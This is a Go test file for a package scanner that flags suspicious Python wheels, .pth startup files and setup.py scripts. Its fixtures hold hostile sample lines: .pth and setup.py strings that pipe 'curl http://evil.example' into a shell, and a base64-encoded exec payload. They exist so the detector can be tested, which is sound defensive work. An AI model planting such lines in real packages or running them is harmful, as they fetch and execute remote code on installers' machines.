package pkgscan

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/aigis-sec/aigis/finding"
)

const wheelMeta = "Metadata-Version: 2.1\nName: fastlib\nVersion: 2.0\nSummary: Fast things\n\nLong description.\n"

func TestWheelCompiledExtensionIsNotHigh(t *testing.T) {
	p := wheel(t, t.TempDir(), "fastlib-2.0-cp312-cp312-manylinux_2_17_x86_64.whl", []file{
		{"fastlib/__init__.py", "from ._core import add\n"},
		{"fastlib/_core.cpython-312-x86_64-linux-gnu.so", elf(3)},
		{"fastlib.libs/libgomp-a34b3233.so.1.0.0", elf(3)},
		{"fastlib-2.0.dist-info/METADATA", wheelMeta},
		{"fastlib-2.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: false\n"},
	})
	fs := scan(t, p)
	if s, ok := worst(fs, ""); ok && s >= finding.Medium {
		dump(t, fs)
		t.Fatalf("worst severity %s for a wheel with a compiled extension, want below medium", s)
	}
	if _, ok := worst(fs, RuleBundledBinary.ID); !ok {
		t.Fatal("the extension module is not listed (info)")
	}
}

func TestWheel(t *testing.T) {
	tests := []struct {
		name, file string
		files      []file
		rule       string
		sev        finding.Severity
	}{
		{"executable-named-so", "fastlib-2.0-cp312-cp312-manylinux_2_17_x86_64.whl",
			[]file{{"fastlib/_core.so", elf(2)}}, RuleBundledBinary.ID, finding.High},
		{"so-in-pure-wheel", "fastlib-2.0-py3-none-any.whl",
			[]file{{"fastlib/_core.so", elf(3)}}, RuleBundledBinary.ID, finding.Medium},
		{"pth-exec", "fastlib-2.0-py3-none-any.whl",
			[]file{{"fastlib_init.pth", "import os;os.system('curl -s http://evil.example/a | sh')\n"}}, RulePthExec.ID, finding.Critical},
		{"pth-plain-import", "fastlib-2.0-py3-none-any.whl",
			[]file{{"zz.pth", "import fastlib_hook\n"}}, RulePthExec.ID, finding.High},
		{"metadata-name-mismatch", "fastlib-2.0-py3-none-any.whl",
			[]file{{"fastlib-2.0.dist-info/METADATA", "Name: requests\nVersion: 2.0\n\nx\n"}}, RuleMetadata.ID, finding.Medium},
		{"home-page-domain", "fastlib-2.0-py3-none-any.whl",
			[]file{{"fastlib-2.0.dist-info/METADATA", "Name: fastlib\nVersion: 2.0\nHome-page: https://fastlib.example\nProject-URL: Source, https://other.example/fastlib\n\nx\n"}}, RuleMetadata.ID, finding.Low},
		{"pe-exe", "fastlib-2.0-py3-none-any.whl",
			[]file{{"fastlib/tool.exe", pe(false)}}, RuleBundledBinary.ID, finding.High},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := scan(t, wheel(t, t.TempDir(), tt.file, tt.files))
			if s, ok := worst(fs, tt.rule); !ok || s < tt.sev {
				dump(t, fs)
				t.Fatalf("%s: got %v (found %v), want at least %s", tt.rule, s, ok, tt.sev)
			}
		})
	}
}

// pe is a minimal PE header: MZ, e_lfanew = 0x40, "PE\0\0", characteristics.
func pe(dll bool) string {
	h := make([]byte, 256)
	copy(h, "MZ")
	h[0x3c] = 0x40
	copy(h[0x40:], "PE\x00\x00")
	h[0x44] = 0x64
	h[0x45] = 0x86
	if dll {
		h[0x40+23] = 0x20
	}
	return string(h)
}

func TestKnownPthIsLow(t *testing.T) {
	p := wheel(t, t.TempDir(), "setuptools-80.0-py3-none-any.whl", []file{{"distutils-precedence.pth",
		"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"}})
	fs := scan(t, p)
	if s, ok := worst(fs, ""); ok && s > finding.Low {
		dump(t, fs)
		t.Fatalf("setuptools' own .pth: %s, want at most low", s)
	}
}

// sitePackages writes n installed distributions of files files each.
func sitePackages(t testing.TB, dir string, n, files int) {
	t.Helper()
	for i := range n {
		name := fmt.Sprintf("pkg%03d", i)
		write := func(rel, data string) {
			p := filepath.Join(dir, rel)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		write(name+"-1.0.dist-info/METADATA", fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: 1.0\nSummary: s\n\nd\n", name))
		write(name+"-1.0.dist-info/RECORD", name+"/__init__.py,,\n")
		for j := 0; j < files-2; j++ {
			write(fmt.Sprintf("%s/mod%02d.py", name, j), benignModule+fmt.Sprintf("\nclass C%d:\n    def f(self, x):\n        return [y * 2 for y in x if y]\n", j))
		}
	}
}

func TestSitePackages(t *testing.T) {
	dir := t.TempDir()
	sitePackages(t, dir, 3, 5)
	if err := os.WriteFile(filepath.Join(dir, "evil.pth"), []byte("import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "pkg000", "_speed.cpython-312-x86_64-linux-gnu.so"), []byte(elf(3)), 0o644); err != nil {
		t.Fatal(err)
	}
	fs := scan(t, dir)
	if s, ok := worst(fs, RulePthExec.ID); !ok || s != finding.Critical {
		dump(t, fs)
		t.Fatalf("pth: %v %v, want critical", s, ok)
	}
	for _, f := range fs {
		if f.RuleID != RulePthExec.ID && f.Severity >= finding.Medium {
			dump(t, fs)
			t.Fatalf("unexpected %s %s in %s", f.Severity, f.RuleID, f.Path)
		}
	}
}

func TestSourceTree(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "setup.py"), []byte("import os\nfrom setuptools import setup\nos.system('curl http://evil.example | sh')\nsetup(name='x')\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	fs := scan(t, dir)
	if s, ok := worst(fs, RuleSetupCode.ID); !ok || s != finding.Critical {
		dump(t, fs)
		t.Fatalf("setup.py in a source tree: %v %v", s, ok)
	}
}

func TestNotAPackage(t *testing.T) {
	p := filepath.Join(t.TempDir(), "x.txt")
	if err := os.WriteFile(p, []byte("hello"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Scan(t.Context(), p, safeioDefault()); err == nil {
		t.Fatal("no error for a text file")
	}
}

func BenchmarkScanSitePackages(b *testing.B) {
	dir := b.TempDir()
	sitePackages(b, dir, 200, 20)
	b.ResetTimer()
	for b.Loop() {
		if _, err := Scan(b.Context(), dir, safeioDefault()); err != nil {
			b.Fatal(err)
		}
	}
}
